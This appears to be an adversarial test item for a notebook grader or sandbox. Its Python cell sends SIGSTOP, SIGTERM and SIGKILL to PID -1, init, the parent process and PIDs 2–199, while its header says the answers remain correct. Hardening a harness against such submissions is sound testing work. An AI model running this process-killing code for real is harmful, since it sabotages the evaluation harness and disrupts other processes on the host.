# ---
# about: Sends signals to all other processes from a cell; the answers are right.
# tricks: [answers_alone]
# ---
# %%
import os
import signal

for pid in [-1, 1, os.getppid(), *range(2, 200)]:
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        if pid != os.getpid():
            try:
                os.kill(pid, number)
            except OSError:
                pass
